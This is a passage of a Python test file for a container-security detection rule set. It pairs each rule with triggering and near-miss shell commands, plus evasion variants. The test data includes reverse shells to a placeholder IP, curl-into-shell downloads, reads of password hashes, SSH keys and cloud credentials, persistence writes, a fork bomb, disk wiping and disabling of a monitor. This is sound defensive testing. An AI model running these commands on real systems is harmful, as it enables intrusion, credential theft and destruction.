# SPDX-License-Identifier: Apache-2.0
"""
nunchi's own rules, all of them in force. Each has a deed in a real container that makes it fire, and a
second one that differs in one thing and must not. Deeds are lines of shell, which run one after the
other. Before each a program runs with the argument "mark", which a rule of the test reports, so that
alerts can be assigned to deeds.

Programs of other names are links in /opt/t to progs/deed.c.
"""

import json
import os
import re
import shutil
import subprocess

from harness.image import make_archive
from harness.nunchi import TOP, has_trampolines
from harness.place import Elsewhere, wait_until
from harness.runc import CAPABILITIES, own_capabilities
from harness.setup import IMAGE, KINDS

RULES = os.path.join(TOP, "rules", "default.yaml")
SMALL = os.environ.get("NUNCHI_TEST_SIZE") == "small"

MARKER = """
- rule: Marker
  desc: A deed begins.
  condition: evt.type = execve and evt.rawres = 0 and proc.args startswith "mark "
  output: "%proc.args"
  priority: DEBUG
"""

# Rule: (a deed that makes it fire, one that is nearly that).
DEEDS = {
    # Out of the container
    "Cgroup release agent written": ("deed write /tmp/release_agent", "deed read /tmp/release_agent"),
    "Kernel helper path written": ("deed write /proc/sys/kernel/core_pattern",
                                   "deed read /proc/sys/kernel/core_pattern"),
    "Process left its container": ("deed setns /hostproc/$OUTSIDE/ns/uts", "deed setns /proc/self/ns/uts"),
    "Kernel module loaded from a container": ("deed finit_module", "deed delete_module"),
    "BPF program loaded from a container": ("deed bpf 5", "deed bpf 0"),
    "BPF object of another taken": ("deed bpf 14", "deed bpf 12"),
    "Disk or memory device opened": ("deed read /dev/kmem", "deed read /dev/zero"),
    "File opened by its handle": ("deed handle /tmp/file 1", "deed handle /tmp/file 0"),
    "Container runtime's socket used": ("deed connect-path /run/docker.sock",
                                        "deed connect-path /run/docker.socket"),
    "Disk mounted in a container": ("deed nobody mount ext4", "deed nobody mount tmpfs"),
    "File system mounted in a container": ("mount -t tmpfs none /mnt", "mount -t nonesuch none /mnt"),
    "Protection of a mount taken away": ("mount -t tmpfs none /proc/tty; umount /proc/tty", "mount -t tmpfs none /mnt; umount /mnt"),
    "User namespace made in a container": ("deed unshare 0x10000000", "deed unshare 0x04000000"),
    "Container runtime's program written": ("nginx write /proc/self/exe", "nginx read /proc/self/exe"),
    "Devices allowed to a cgroup": ("deed write /tmp/devices.allow", "deed write /tmp/devices.list"),
    "Cgroup told to notify": ("deed write /tmp/notify_on_release", "deed read /tmp/notify_on_release"),
    "Kernel setting written": ("deed write /proc/sys/kernel/domainname",
                               "deed read /proc/sys/kernel/domainname"),
    "Namespace joined in a container": ("deed setns /proc/self/ns/uts", "deed setns /proc/self/status"),
    "Tool for others' namespaces runs": ("nsenter -t $$ -u /bin/true", "/opt/t/enter -t 1"),
    "Files reached through a process's root": ("deed read /proc/1/root/etc/passwd",
                                               "deed read /proc/self/root/etc/passwd"),
    "File outside of the container's root reached": ("deed read /hostproc/$OUTSIDE/root/etc/passwd",
                                                     "cd /opt; for i in $(seq 300); do mkdir d; cd d; done; deed write x"),
    "Block device made": ("mknod /tmp/disk b 250 99", "mknod /tmp/null c 1 3"),
    "File system debugger runs": ("debugfs", "dumpfs"),
    "Another kernel to be started": ("deed kexec_load", "deed finit_module"),
    "Hardware's ports asked for": ("deed iopl 3", "deed iopl 0"),
    "Root directory changed": ("chroot / /bin/true", "chroot /nowhere /bin/true"),
    "Pod manifest written": ("deed write /etc/kubernetes/manifests/pod.yaml",
                             "deed read /etc/kubernetes/manifests/pod.yaml"),
    # What runs
    "Shell started by a server": ("nginx run sh -c :", "app run sh -c :"),
    "Program runs from memory": ("deed memory nothing", "deed run /bin/true"),
    "Script runs from memory": ("deed memory-script", "deed memory nothing"),
    "Program runs from shared memory": ("cp /opt/t/deed /dev/shm/x; /dev/shm/x nothing",
                                        "cp /opt/t/deed /tmp/shm; /tmp/shm nothing"),
    "Program runs from a temporary directory": ("cp /opt/t/deed /tmp/x1; /tmp/x1 nothing",
        "mkdir /opt/tmp; cp /opt/t/deed /opt/tmp/x; /opt/tmp/x nothing"),
    "Standard stream goes to the network": ("deed stdin 0", "deed stdin 7"),
    "Shell reads from the network": ("deed socket-stdin sh -c :", "deed socket-stdin deed nothing"),
    "Interactive shell without a terminal": ("echo : | sh -i", "echo : | sh -e"),
    "Privileged program loads a library from elsewhere": (
        ": >/tmp/x.so; /usr/bin/dpkg read /tmp/x.so", ": >/usr/lib/x.so; /usr/bin/dpkg read /usr/lib/x.so; deed read /tmp/x.so; "
        "mkdir -p /var/lib/dpkg; : >/var/lib/dpkg/libx.so.3-x86_64; /usr/bin/dpkg read /var/lib/dpkg/libx.so.3-x86_64"),
    "Program runs by the dynamic loader": ("$(echo /lib*/ld-linux-*.so.*) /bin/bash -c :",
                                           "$(echo /lib*/ld-linux-*.so.*) --list /bin/bash >/dev/null"),
    "Netcat runs a program": ("nc -e /bin/sh 203.0.113.9 1", "nc 203.0.113.9 1"),
    "Netcat on a named pipe": ("mkfifo /tmp/p; nc 203.0.113.9 1 <>/tmp/p", "echo x | nc 203.0.113.9 1 | cat"),
    "Cryptocurrency miner runs": ("app -o stratum+tcp://pool.invalid:3333", "app -o tcp://pool.invalid:3333"),
    "Shell with a terminal": ("deed terminal sh -c :", "deed run sh -c :"),
    "Program was written in the container": ("cp /opt/t/deed /opt/new; /opt/new nothing",
                                             "/opt/t/deed nothing"),
    "Program runs another as its ELF interpreter": ("mkdir /tmp/w; wrapped /tmp/w", "/opt/t/deed nothing"),
    "Program runs from a hidden directory": ("/opt/.t/deed nothing", "/opt/t/deed nothing"),
    "Download goes into a shell": ("sh -c 'curl -s http://x.invalid/a | sh'",
                                   "sh -c 'curl -s http://x.invalid/a | cat'"),
    "Decoded text is executed": ("sh -c 'echo Og== | base64 -d | sh'", "sh -c 'echo Og== | base64 -d | cat'"),
    "Command is longer than can be read": ("printf -v x %5000s; bash -c \"$x:\"", "printf -v x %3000s; bash -c \"$x:\""),
    "Interpreter runs a one-line network program": (
        "python3 -c 'import socket,os; os.dup2(1, 2)'",
        "python3 -c 'import socket; socket.create_connection((\"localhost\", 80))'"),
    "Interpreter asks the network by one line": ("python3 -c 'import socket'", "python3 -c 'import os'"),
    "Shell connects to its neighbours": ("bash -c ': </dev/udp/10.0.0.9/443'", "bash -c ': </dev/udp/203.0.113.9/443'"),
    "Shell connects to the network": ("bash -c ': </dev/tcp/203.0.113.9/443'",
                                      "bash -c ': </dev/tcp/127.0.0.1/443; : </dev/udp/192.168.1.1/443'"),
    "Server starts a tool": ("nginx run id", "app run id"),
    "Download tool runs": ("/opt/t/curl http://x.invalid", "/opt/t/curlew http://x.invalid"),
    "Tool for containers or clusters runs": ("kubectl get pods", "kubelet get pods"),
    "Package manager runs": ("/usr/bin/dpkg nothing", "/opt/t/dpkg nothing"),
    "Package manager is given a command": ("/usr/bin/dpkg --pre-invoke=/bin/true || :", "/usr/bin/dpkg --status-fd=1 || :"),
    "Attack tool runs": ("linpeas.sh", "linpeas.txt"),
    "Tunnel made": ("chisel client x.invalid", "chise client x.invalid"),
    "Netcat listens": ("nc -l -p 4444", "nc -z 203.0.113.9 4444"),
    # Credentials
    "Password hashes read": ("cat /etc/shadow", "/usr/bin/sshd read /etc/shadow"),
    "Secret file linked or moved": ("ln /etc/shadow /etc/sh; rm /etc/sh", "ln /etc/hosts /etc/ho; rm /etc/ho"),
    "Symbolic link made to secrets": ("ln -s /etc /tmp/up; rm /tmp/up", "ln -s /etc/hosts /tmp/up; rm /tmp/up"),
    "Service account token read by a tool": ("cat /run/secrets/kubernetes.io/serviceaccount/token",
                                             "app read /run/secrets/kubernetes.io/serviceaccount/token"),
    "SSH private key read": ("cat /root/.ssh/id_rsa", "cat /root/.ssh/id_rsa.pub"),
    "Cloud metadata asked for": ("deed connect 169.254.169.254 80", "deed connect 169.254.169.253 80"),
    "Environment of another process read": ("cat /proc/1/environ", "cat /proc/self/environ"),
    "Cloud credentials read by a tool": ("cat /root/.aws/credentials", "app read /root/.aws/credentials"),
    "Cluster's own keys read": ("deed read /etc/kubernetes/admin.conf",
                                "/usr/bin/kubelet read /etc/kubernetes/admin.conf"),
    "Keys searched for": ("find /root -name id_rsa", "find /root -name readme"),
    "Memory of another process read by file": ("deed read /proc/1/mem", "deed read /proc/self/mem"),
    "Own memory written by file": ("bash -c ': >/proc/self/mem'", "bash -c ': </proc/self/mem'"),
    "Memory of another process read": ("deed vm-read", "/usr/bin/gdb vm-read"),
    "Debugger runs": ("gdb nothing", "app nothing"),
    "Shell history read by a tool": ("cat /root/.bash_history", "app read /root/.bash_history"),
    "Way of logging in changed": ("deed write /etc/pam.d/common-auth", "/usr/bin/dpkg write /etc/pam.d/common-auth"),
    # To stay
    "Scheduled job written": ("deed write /etc/cron.d/job", "/usr/bin/dpkg write /etc/cron.d/job"),
    "SSH authorized keys written": ("deed write /root/.ssh/authorized_keys",
                                    "deed write /root/.ssh/known_hosts"),
    "Library preloaded into every program": ("deed write /etc/ld.so.preload; rm /etc/ld.so.preload",
                                             "deed write /etc/ld.so.cache2"),
    "System program written": ("deed write /usr/bin/tool", "/usr/bin/dpkg write /usr/bin/tool"),
    "System library written": ("deed write /usr/lib/libx.so.1", "/usr/bin/dpkg write /usr/lib/liby.so.1"),
    "Local program written": ("mkdir -p /usr/local/bin; deed write /usr/local/bin/ls; rm /usr/local/bin/ls",
                              "/usr/bin/dpkg write /usr/local/bin/lsx; rm /usr/local/bin/lsx"),
    "Mount over the system's programs": ("mkdir -p /usr/local; mount -o bind /opt/t /usr/local; umount /usr/local",
                                         "mkdir -p /opt/local; mount -o bind /opt/t /opt/local; umount /opt/local"),
    "Settings covered or replaced": ("mount -o bind /opt/t /etc/pam.d; umount /etc/pam.d", "mount -o bind /opt/t /etc/../opt/t; umount /opt/t"),
    "Accounts changed by hand": ("deed write /etc/passwd", "/usr/bin/useradd write /etc/passwd"),
    "Account with root's number made": ("useradd -o -u 0 x", "useradd -o -u 1000 x"),
    "Setuid bit set": ("chmod 4755 /tmp/file", "chmod 755 /tmp/file"),
    "pkexec without arguments": ("pkexec", "pkexec nothing"),
    "sudoedit given an open backslash": ("sudoedit -s 'x\\'", "sudoedit -s x"),
    "Account of a service logs in": ("deed nobody run /opt/t/login", "/opt/t/login nothing"),
    "Shell's start files written": ("deed write /root/.bashrc", "/usr/bin/useradd write /root/.bashrc"),
    "Service written": ("deed write /etc/systemd/system/x.service",
                        "/usr/bin/systemctl write /etc/systemd/system/x.service"),
    "Hook of the system written": ("mkdir -p /etc/apt/apt.conf.d; deed write /etc/apt/apt.conf.d/x",
                                   "/usr/bin/dpkg write /etc/apt/apt.conf.d/x"),
    "Loader's paths written": ("deed write /etc/ld.so.conf.d/x.conf", "/usr/bin/dpkg write /etc/ld.so.conf.d/x.conf"),
    "Certificate authority added": ("deed write /usr/local/share/ca-certificates/x.crt",
                                    "/usr/bin/dpkg write /usr/local/share/ca-certificates/x.crt"),
    "Capability given to a file": ("deed attribute /tmp/file security.capability",
                                   "deed attribute /tmp/file user.x"),
    "Names sent elsewhere": ("deed write /etc/hosts", "deed read /etc/hosts"),
    "SSH server runs": ("sshd nothing", "sshdd nothing"),
    # Looking around
    "Setuid programs searched for": ("find / -maxdepth 0 -perm -4000", "find / -maxdepth 0 -perm -0002"),
    "Packet socket made": ("deed packet", "deed socket"),
    "Socket of a rare family made": ("deed rare", "deed packet"),
    "Network scanner runs": ("nmap -sS 10.0.0.0/8", "map"),
    "Cluster's API asked by a tool": ("curl connect 10.96.0.1 10250", "app connect 10.96.0.1 10250"),
    "Looks whether it is in a container": ("cat /proc/1/cgroup", "cat /proc/1/status"),
    "Raw socket made": ("deed raw", "/usr/bin/ping raw"),
    "Remote login tool runs": ("ssh host.invalid", "sshh host.invalid"),
    "Chat or anonymous network contacted": ("deed connect 203.0.113.9 6667", "deed connect 203.0.113.9 6668"),
    "Simple tool connects to the network": ("sha1sum connect 203.0.113.9 443", "sha1sum connect 127.0.0.1 443"),
    "Kernel log read": ("deed syslog 3", "deed syslog 10"),
    "Kernel's symbols read": ("cat /proc/kallsyms", "cat /proc/modules"),
    # Covering tracks, and other processes
    "Log removed": ("/bin/rm /var/log/a.log", "/bin/rm /tmp/a.log"),
    "Shell history removed": ("/bin/rm /root/.ash_history", "mv /root/plain /root/plain2"),
    "Another process is traced": ("deed ptrace 16", "/usr/bin/strace ptrace 16"),
    "Process asks to be traced": ("deed ptrace 0", "/usr/bin/gdb ptrace 0"),
    "Descriptor of another process taken": ("deed take", "/usr/bin/gdb take"),
    "Memory of another process written": ("deed vm-write", "deed vm-read"),
    "Log emptied": ("deed empty /var/log/b.log", "deed write /var/log/b.log"),
    "Hidden file made where all can write": ("deed write /tmp/.hidden", "deed write /tmp/shown"),
    "File hidden among devices": ("deed write /dev/.x", "deed write /dev/shm/.x"),
    "Process hidden by a mount": ("mount -t tmpfs none /proc/$$", "mount -t tmpfs none /mnt"),
    "Process is named like one of the kernel's": ("kworker nothing", "worker nothing"),
    "Ring for calls made": ("deed ring", "deed socket"),
    "Ring opens a file out of sight": ("ln -s /etc/hosts /tmp/ring; uring quiet /tmp/ring", "uring direct /tmp/ring"),
    "Fault handler made": ("deed userfaultfd 1", "/usr/bin/criu userfaultfd 1"),
    "Kernel's tracing changed": ("deed write /sys/kernel/tracing/tracing_on",
                                 "deed read /sys/kernel/tracing/tracing_on"),
    "Monitor to be stopped": ("pkill falco", "pkill app"),
    "Protection switched off": ("deed write /sys/fs/selinux/enforce", "deed read /sys/fs/selinux/enforce"),
    "Rules of the firewall removed": ("iptables -F", "iptables -L"),
    "Kernel module removed from a container": ("deed delete_module", "deed finit_module"),
    "File made unchangeable": ("chattr +i /tmp/x", "chattr -i /tmp/x"),
    "Times of a file set by hand": ("touch -d 2001-01-01 /tmp/file", "touch /tmp/file"),
    "Clock set": ("deed nobody clock 0", "deed clock 77"),
    # Damage
    "Disk wiped": ("dd if=/dev/zero of=/dev/sdzz count=0", "dd if=/dev/zero of=/tmp/zz count=0"),
    "Everything removed": ("/opt/t/rm -rf /var", "/opt/t/rm -rf /var/tmp/x"),
    "File got a ransomware's ending": ("mv /tmp/file /tmp/file.locked; mv /tmp/file.locked /tmp/file",
                                       "mv /tmp/file /tmp/file.bak; mv /tmp/file.bak /tmp/file"),
    "Ransom note written": ("deed write /tmp/HOW_TO_DECRYPT.txt", "deed read /tmp/HOW_TO_DECRYPT.txt"),
    "Encryption by a tool": ("openssl enc -aes-256-cbc -in /tmp/file",
                             "openssl enc -d -aes-256-cbc -in /tmp/file"),
    "No more processes can be made": ("deed nobody forks", "deed run /bin/true"),
    "Fork bomb typed": ("sh -c ': || b(){ b|b& };:'", "sh -c ': || b(){ c|b; };:'"),
    "Machine to be stopped": ("deed reboot 0xcdef0123", "deed reboot 0"),
}

# Rule: deeds that make it fire although who does them has the name of somebody who may: as a file elsewhere, by a link, by
# renaming itself or who started it; or has put a line's end into its arguments.
PRETENDERS = {
    "BPF program loaded from a container": ["/opt/t/systemd bpf 5", "deed as runc bpf 5"],
    "Password hashes read": ["/opt/t/sshd read /etc/shadow", "deed as sshd read /etc/shadow",
                             "ln -s /opt/t/deed /tmp/login; /tmp/login read /etc/shadow",
                             "cd /opt/t; exec ./useradd read /etc/shadow", "/usr/bin/perl read /etc/shadow",
                             "mkdir -p /usr/local /opt/r/bin; cp /opt/t/deed /opt/r/bin/login; "
                             "unshare -m sh -c 'mount -o bind /opt/r /usr/local; exec sleep 2' & sleep 0.5; "
                             "cd /proc/$!/root/usr/local/bin && exec env ./login read /etc/shadow",
                             "ln -s /usr/bin/cat /usr/bin/chfn; chfn /etc/shadow",
                             "mkdir -p /usr/local/bin; ln -s /usr/bin/cat /usr/local/bin/sudo; /usr/local/bin/sudo /etc/shadow",
                             "cp /opt/t/deed /opt/chage; mv /opt/chage /usr/bin/chage; chage read /etc/shadow",
                             "mkdir -p /usr/local/bin; cp /opt/t/deed /usr/local/bin/su; /usr/local/bin/su read /etc/shadow",
                             "exec -a cat /usr/bin/login /etc/shadow",
                             "exec -a sh /usr/bin/login -c ': </etc/shadow'",
                             "mkdir -p /etc/usr/bin; cp /opt/t/deed /etc/usr/bin/passwd; chroot /etc /usr/bin/passwd read /shadow",
                             "mkdir -p /opt/b; unshare -m sh -c 'mount -o bind /etc /opt/b; exec /opt/t/deed read /opt/b/shadow'",
                             # By a link, so that the mount is not told as one over the system's programs.
                             "mkdir /tmp/o; cp /opt/t/deed /tmp/o/su; ln -s /usr/bin /tmp/ul; unshare -m bash -c "
                             "'deed bind /tmp/o /tmp/ul; /usr/bin/su read /etc/shadow'",
                             "ln -s /usr/bin /tmp/um; deed bind /opt/t/deed /tmp/um/dpkg; /usr/bin/dpkg read /etc/shadow; umount /usr/bin/dpkg",
                             "mkdir -p /tmp/w/x /tmp/w/usr/bin; ln -s /bin/bash /tmp/w/usr/bin/login; ln -s /tmp/w/x /up; "
                             "/up/../usr/bin/login -c ': </etc/shadow'"],
    "Scheduled job written": ["/opt/t/dpkg write /etc/cron.d/job",
                              "deed as dpkg run /opt/t/deed write /etc/cron.d/job",
                              "ln -s /opt/t/deed /usr/bin/cron; /usr/bin/cron write /etc/cron.d/job",
                              "unshare -m sh -c 'mount -o bind /opt/t/deed /usr/bin/rpm; exec /usr/bin/rpm write /etc/cron.d/job'",
                              "ln -s /usr/bin/dpkg /tmp/job; cp /tmp/job /opt/cron; /opt/cron write /etc/cron.d/job"],
    "System program written": ["/usr/bin/npm run /opt/t/deed write /usr/bin/tool", "ln -s /opt/t/deed /usr/bin/link1", "ln /usr/bin/dpkg /usr/bin/link2",
                               "mv /usr/bin/link1 /usr/bin/link3",
                               "deed as dpkg write /usr/bin/tool", "echo dpkg >/proc/$$/comm; deed write /usr/bin/tool",
                               "npx deed write /usr/bin/tool", "echo ': >/usr/bin/tool' >/opt/npx; node /opt/npx",
                               "cp /usr/bin/node /opt/node; /opt/node /usr/bin/npx"],
    "Program was written in the container": ["cp /opt/t/deed /opt/n1; printf '#!/usr/bin/node\\n/opt/n1 nothing\\n' >/usr/bin/npx-x; "
                                             "chmod 755 /usr/bin/npx-x; node /usr/bin/npx-x; rm /usr/bin/npx-x"],
    "Accounts changed by hand": ["/opt/t/useradd write /etc/passwd"],
    "Secret file linked or moved": ["mv /etc/shadow /etc/sh; mv /etc/sh /etc/shadow"],
    "Service written": ["deed as systemctl write /etc/systemd/system/x.service"],
    "Another process is traced": ["deed as gdb ptrace 16", "/opt/t/strace ptrace 16"],
    "Memory of another process read": ["deed as gdb vm-read"],
    "Raw socket made": ["deed as ping raw"],
    "Namespace joined in a container": ["deed as runc:[2:INIT] setns /proc/self/ns/uts",
                                        "cp /opt/t/deed /opt/crun; mkdir -p /usr/local/bin; mv /opt/crun /usr/local/bin; "
                                        "/usr/local/bin/crun setns /proc/self/ns/uts; rm /usr/local/bin/crun"],
    "Program runs from memory": ["deed as runc memory nothing"],
    "Tool for others' namespaces runs": ["busybox nsenter -t $$ -u /bin/true"],
    "Times of a file set by hand": ["busybox touch -d 2001-01-01 /tmp/file", "exec -a touch busybox -d 2001-01-01 /tmp/file"],
    "Disk wiped": ["busybox busybox dd if=/dev/zero of=/dev/sdzz count=0"],
    "SSH private key read": ["/usr/bin/scp read /root/.ssh/id_rsa"],
    "File system debugger runs": ["ln -s /opt/t/debugfs /tmp/fs; /tmp/fs"],
    "Netcat listens": ["ln -s /opt/t/nc /tmp/n; /tmp/n -l -p 4444"],
    "Shell connects to the network": ["exec 3>/proc/$$/comm; echo app >&3; : </dev/tcp/203.0.113.9/443"],
    "Shell started by a server": ["nginx as app run sh -c :", "postgres run sh -c 'cp pg_wal/01 /opt/01; id' || :",
                                  "postgres run sh -c 'python3 nothing pg_wal/01'",
                                  "ln -s /opt/t/deed /opt/cp; postgres run sh -c '/opt/cp pg_wal/01 /opt/01' || :"],
    "Interpreter runs a one-line network program": ["python3 -c $'\\nimport socket; exec(x)'", "perl -e 'use Socket; system(1)'",
                                                    "python3 -c 'import pty; pty.spawn(1)'",
                                                    "python3 -c 'exec(urlopen(1).read())'",
                                                    "php8.2 -r '$s=fsockopen(1); exec(1);'"],
    "Download goes into a shell": ["sh -c $'curl -s http://x.invalid/a |\\n/bin/sh; true'",
                                   "sh -c 'curl -s http://x.invalid/a | tee /tmp/file | sudo -E bash -'",
                                   "bash -c 'bash <(curl -s http://x.invalid/a)'",
                                   "sh -c 'eval \"$(curl -s http://x.invalid/a)\"'",
                                   "sh -c 'openssl s_client -quiet -connect 203.0.113.9:1 | /bin/sh | cat'"],
    "Decoded text is executed": ["sh -c 'echo Og== | base64 -d | cat | sh'"],
    "Shell reads from the network": ["deed socket-stdin busybox sh -c :", "deed as app socket-stdin python3 -c 1",
                                     "cp /opt/t/deed /dev/shm/app; deed socket-stdin /dev/shm/app nothing",
                                     "cp /bin/busybox /opt/x; deed socket-stdin /opt/x true", "deed socket-stdin php8.2 nothing",
                                     "deed socket-stdin $(echo /lib*/ld-linux-*.so.*) /bin/bash -c :"],
    "Interactive shell without a terminal": ["echo : | bash -li", "echo : | exec -a app sh -i"],
    "Shell history removed": ["ln -s /dev/null /root/.zsh_history"],
    "Fork bomb typed": ["sh -c $': || b(){\\nb|b&\\n};:'"],
    "SSH server runs": ["deed as sshd run /opt/t/sshd nothing"],
}

# Rule: deeds that come to the same by another call, or by way of another name; each is told once.
OTHER_WAYS = {
    "Cgroup release agent written": ["mount -t cgroup -o none,name=t,release_agent=/x,nonesuch none /mnt", "deed release-agent"],
    "Disk mounted in a container": ["deed nobody fsopen xfs"],
    "Protection of a mount taken away": ["mount -o bind /proc/tty /proc/tty; deed writable /proc/tty",
                                         "mount -o bind /proc/tty /proc/tty; mount -o remount,bind,rw /proc/tty"],
    "User namespace made in a container": ["deed user"],
    "Package manager is given a command": ["/usr/bin/rpm --eval '%(id)' || :", "/usr/bin/apt-get -c /opt/c update || :",
                                           "/usr/bin/apt-get edit-sources x || :"],
    "Netcat runs a program": ["busybox nc 127.0.0.1 9 -e /bin/sh || :", "socat tcp:127.0.0.1:9 EXEC:/bin/sh || :",
                              "nc -e/bin/sh 203.0.113.9 1"],
    "Netcat on a named pipe": ["mkfifo /tmp/p1; openssl s_client -quiet -connect 203.0.113.9:443 1<>/tmp/p1",
                               "mkfifo /tmp/p2; busybox telnet 127.0.0.1 9 <>/tmp/p2 || :"],
    "Interactive shell without a terminal": ["mkfifo /tmp/p3; echo exit >/tmp/p3 & sh -i </tmp/p3"],
    "Container runtime's socket used": ["deed connect-path /run/cri-dockerd.sock", "deed connect-path /run/containerd/s/0123",
                                        "deed connect-path /var/lib/incus/unix.socket", "deed connect-path /run/nri/nri.sock"],
    "SSH private key read": ["mkdir -p /etc/ssh; : >/etc/ssh/ssh_host_rsa_key; cat /etc/ssh/ssh_host_rsa_key"],
    "Own memory written by file": ["busybox dd if=/dev/null of=/proc/self/mem count=0", "cp /opt/t/deed /opt/cow; /opt/cow write /proc/self/mem"],
    "Account with root's number made": ["usermod --uid=0 x", "useradd -ou0 x"],
    "Hook of the system written": ["mkdir -p /etc/xdg/autostart; ln -s /tmp/file /etc/xdg/autostart/x.desktop", "deed write /opt/sitecustomize.py",
                                   "mkdir -p /usr/lib/python3; deed write /usr/lib/python3/x.pth"],
    "Setuid programs searched for": ["find / -maxdepth 0 -perm /u=s,g=s", "getcap -r /"],
    "Kernel log read": [": >/dev/kmsg; deed read /dev/kmsg; rm /dev/kmsg"],
    "Shell started by a server": ["java run sh -c : -Dcatalina.base=/usr/local/tomcat",
                                  "php-fpm8.2 run sh -c :", "php-fpm8.2 run sh -c '/usr/sbin/sendmail -t -i; id'"],
    "Keys searched for": ["find / -maxdepth 1 -name '*.pem'"],
    "Service account token read by a tool": ["busybox cat /run/secrets/kubernetes.io/serviceaccount/token",
                                             "nl /run/secrets/kubernetes.io/serviceaccount/token",
                                             "cd /opt; mkdir -p pods/u/volumes/kubernetes.io~projected/x; cd pods/u/volumes/kubernetes.io~projected/x; "
                                             ": >token; cat token"],
    "Cloud credentials read by a tool": ["tac /root/.aws/credentials", "read x </root/.aws/credentials",
                                         ": >/root/.vault-token; cat /root/.vault-token",
                                          ": >/etc/krb5.keytab; cat /etc/krb5.keytab"],
    "Settings covered or replaced": ["mkdir -p /opt/sudoers.d; mv /opt/sudoers.d /etc/sudoers.d; mv /etc/sudoers.d /opt/sudoers.d",
                                     "ln -s /opt/t /etc/sudoers.d; rm /etc/sudoers.d", "deed cover /etc/cron.d; umount /etc/cron.d"],
    "Cluster's own keys read": ["mkdir -p /etc/rancher/k3s; : >/etc/rancher/k3s/k3s.yaml; cat /etc/rancher/k3s/k3s.yaml",
                                "cd /opt; mkdir -p k3s/server/tls; : >k3s/server/tls/ca.key; cat k3s/server/tls/ca.key"],
    "Shell history read by a tool": ["busybox cat /root/.bash_history", ": >/root/.psql_history; cat /root/.psql_history"],
    "Cluster's API asked by a tool": ["curl connect 10.0.0.1 2375"],
    "Cryptocurrency miner runs": ["printf -v x %093d; app -u 44${x//0/A}"],
    "Disk or memory device opened": ["mkdir -p /dev/cpu/0; : >/dev/cpu/0/msr"],
    "Rules of the firewall removed": ["iptables -t nat --flush", "iptables -P INPUT ACCEPT"],
    "Block device made": ["mknod /tmp/mem c 1 1"],
    "Kernel helper path written": ["deed write /proc/sys/kernel/poweroff_cmd",
                                   "mkdir /tmp/bm; mount -t binfmt_misc none /tmp/bm; deed write /tmp/bm/register; umount /tmp/bm"],
    "Kernel's tracing changed": ["mkdir /tmp/tr; mount -t tracefs none /tmp/tr; deed write /tmp/tr/tracing_on; umount /tmp/tr"],
    "Cloud metadata asked for": ["deed messages 169.254.169.254 80", "deed connect 169.254.170.23 80",
                                 "deed connect 168.63.129.16 80", "deed connect 169.254.42.42 80"],
    "Pod manifest written": ["mv /tmp/file /etc/kubernetes/manifests/moved.yaml; : >/tmp/file"],
    "Way of logging in changed": ["ln -s /tmp/file /etc/pam.d/common-x", "mkdir -p /usr/lib/security; deed write /usr/lib/security/pam_x.so"],
    "Scheduled job written": ["mv /tmp/file /etc/cron.d/moved; : >/tmp/file", ": >/etc/job; ln /etc/job /etc/cron.d/linked",
                              "ln -s /tmp/file /etc/cron.d/link", "mkdir -p /etc/periodic/daily; deed write /etc/periodic/daily/x"],
    "SSH authorized keys written": ["mv /tmp/file /root/.ssh/authorized_keys; : >/tmp/file"],
    "Library preloaded into every program": ["mv /tmp/file /etc/ld.so.preload; unlink /etc/ld.so.preload; : >/tmp/file"],
    "Accounts changed by hand": ["cp /etc/hosts /etc/group.new; mv /etc/group.new /etc/group"],
    "Shell's start files written": ["ln -s /tmp/file /root/.zshrc", "deed write /root/.ssh/rc"],
    "Service written": ["ln -s /tmp/file /etc/systemd/system/link.service",
                        "mkdir -p /run/systemd/system; deed write /run/systemd/system/x.service",
                        "mkdir -p /root/.config/systemd/user; deed write /root/.config/systemd/user/x.service",
                        "mkdir -p /etc/udev/rules.d; deed write /etc/udev/rules.d/x.rules",
                        "mkdir -p /etc/containers/systemd; deed write /etc/containers/systemd/x.container",
                        "mkdir -p /etc/rc2.d; ln -s ../init.d/x /etc/rc2.d/S99x",
                        "mkdir /docker-entrypoint.d; deed write /docker-entrypoint.d/x.sh"],
    "Loader's paths written": ["deed write /etc/ld.so.cache; rm /etc/ld.so.cache", "mv /tmp/file /etc/ld.so.conf.d/moved.conf; : >/tmp/file"],
    "Certificate authority added": ["mv /tmp/file /usr/local/share/ca-certificates/moved.crt; : >/tmp/file"],
    "Names sent elsewhere": ["cp /etc/hosts /etc/new; mv /etc/new /etc/nsswitch.conf"],
    "Program runs from shared memory": ["printf '#!/bin/sh\\n:\\n' >/dev/shm/s; chmod 755 /dev/shm/s; /dev/shm/s", "bash /dev/shm/s"],
    "Program runs from a temporary directory": ["printf '#!/bin/sh\\n:\\n' >/tmp/s; chmod 755 /tmp/s; cd /tmp; ./s"],
    "Hidden file made where all can write": ["mkdir /tmp/.dir"],
    "Server starts a tool": ["postgres run /bin/ls", "java run id -Dcatalina.base=/usr/local/tomcat"],
    "Tool for containers or clusters runs": ["etcdctl get / --prefix", "oc get secrets"],
    "Tunnel made": ["gs-netcat -l"],
    "Setuid bit set": ["deed setuid open /tmp/suid1", "deed setuid openat2 /tmp/suid2", "deed setuid node /tmp/suid3",
                       "chmod 2755 /tmp/file; chmod 755 /tmp/file"],
    "Log emptied": [": >/tmp/auth.log", "deed truncate /var/log/b.log", "truncate -s 0 /var/log/b.log"],
    "Shell history removed": ["deed truncate /root/.bash_history"],
    "Process hidden by a mount": ["deed cover /proc/$$"],
    "Environment of another process read": ["cat /proc/self/root/proc/1/environ", "cat /proc/self/../1/environ"],
    "Memory of another process read by file": ["deed read /proc/self/root/proc/1/mem"],
    "Files reached through a process's root": ["deed read /proc/self/root/proc/1/root/etc/passwd"],
}

# Rule: what does the same by right, in the ways that programs of a system are made.
RIGHTFUL = {
    "BPF program loaded from a container": ["/usr/bin/runc bpf 5", "/usr/bin/systemd bpf 5"],
    "Root directory changed": ["/usr/bin/sshd chroot /", "/usr/bin/sshd-session chroot /"],
    "Protection of a mount taken away": ["mount -o bind /proc/tty /proc/tty; mount -o remount,bind,ro /proc/tty"],
    "Own memory written by file": ["deed write /proc/self/mem"],
    "Setuid programs searched for": ["find / -maxdepth 0 -perm 0755"],
    "SSH private key read": ["/usr/bin/ssh-add read /root/.ssh/id_rsa"],
    # Scripts, of bash and of busybox, and what changes an account a little.
    "Accounts changed by hand": ["adduser", "addgroup", "/usr/bin/chsh write /etc/passwd", "/usr/bin/gpasswd write /etc/group"],
    "Raw socket made": ["traceroute raw"],  # a link to one of some
    "Password hashes read": ["/opt/t/../../usr/bin/sshd read /etc/shadow", "/usr/bin/gpasswd read /etc/shadow", "/usr/bin/psql read /etc/shadow"],
    "System program written": ["/usr/bin/npm write /usr/bin/tool", "npx"],
